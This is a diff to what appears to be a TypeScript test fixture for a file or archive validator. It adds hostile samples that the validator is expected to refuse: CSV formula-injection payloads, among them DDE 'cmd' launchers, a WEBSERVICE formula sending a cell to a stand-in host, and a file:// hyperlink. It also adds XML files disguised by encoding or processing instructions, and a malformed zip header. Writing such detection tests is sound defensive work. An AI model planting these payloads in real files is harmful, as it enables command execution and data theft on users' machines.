@@ -8,6 +8,11 @@ import type { Hostile } from './document.ts'
 const PDF = buildPdf({})
 type Row = [name: string, does: string, refused: ProblemCode, file: string, content?: Buffer | string]
 
+const OFFICE_2006 = 'http://schemas.microsoft.com/office/2006'
+const COMMAND = "=cmd|'/C calc'!A0"
+const inArchive = (file: string, each: [name: string, does: string, content: string][]): Row[] =>
+  each.map(([name, does, content]) => [name, does, 'archive_has_refused_file', file, content])
+
 const rows: Row[] = [
   [
     'dot-behind',
@@ -94,6 +99,30 @@ const rows: Row[] = [
     'a.xml',
     '<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
   ],
+  ...inArchive('a.xml', [
+    [
+      'page-spelled',
+      'spells that it is a page',
+      '<a xmlns="http://www.w3.org/1999/xht&#109;l"><script/></a>',
+    ],
+    ['xml-of-word', 'opens Word with its references', '<?mso-application progid="Word.Document"?><a/>'],
+    ['xml-of-office', 'is a document in one part', `<a xmlns="${OFFICE_2006}/xmlPackage"/>`],
+    ['xml-of-styles', 'runs scripts of a style', '<?xml-stylesheet href="a.xsl" type="text/xsl"?><a/>'],
+    ['xml-utf7', 'hides what it is in UTF-7', '<?xml version="1.0" encoding = "utf-7"?><a/>'],
+  ]),
+  ...inArchive('a.csv', [
+    ['sheet-with-mark', 'begins with a mark that Excel drops', `\ufeff${COMMAND}`],
+    ['sheet-of-lines', 'ends its lines as a Mac of old', `a\r${COMMAND}\r`],
+    ['sheet-quoted', 'begins a formula with a quoted text', `"=""a""&cmd|'/C calc'!A0"`],
+    ['sheet-unquoted', 'has such a text without quotes around', `="a"&cmd|'/C calc'!A0`],
+    ['sheet-behind-quote', 'goes on behind its closing quote', `"=cmd"|'/C calc'!A0`],
+    ['sheet-over-lines', 'ends a line within a formula', `"=1+\ncmd|'/C calc'!A0"`],
+    ['sheet-that-sends', 'sends a cell to a server', 'x,"=WEBSERVICE  (""http://host/""&A1)"'],
+    ['sheet-that-links', 'opens a file when it is pressed', '"=HYPERLINK(""file://host/a.exe"";""a"")"'],
+    ['sheet-parted-oddly', 'says itself what parts its cells', `sep=x\naxa${COMMAND}`],
+    ['sheet-unclosed', 'hides a formula behind a quote without an end', `"a\n${COMMAND},""`],
+    ['sheet-of-old', 'is a sheet of an old format, with formulas', 'ID;PWXL;N;E\nC;Y1;X1;E1+1\nE'],
+  ]),
 ]
 
 const patched = (patch: (zip: Buffer) => void) => () => {
@@ -137,6 +166,13 @@ export const archives: Hostile[] = [
     refused: 'archive_has_unsafe_names',
     type: 'zip',
     make: patched((zip) => zip.writeUInt32LE(0xa1ff0000, zip.indexOf(Buffer.from('PK\x01\x02')) + 38)),
+  },
+  {
+    name: 'packed-otherwise',
+    does: 'is packed otherwise for programs that read from the front',
+    refused: 'file_damaged',
+    type: 'zip',
+    make: patched((zip) => zip.writeUInt16LE(0, 8)),
   },
   {
     name: 'two-names',
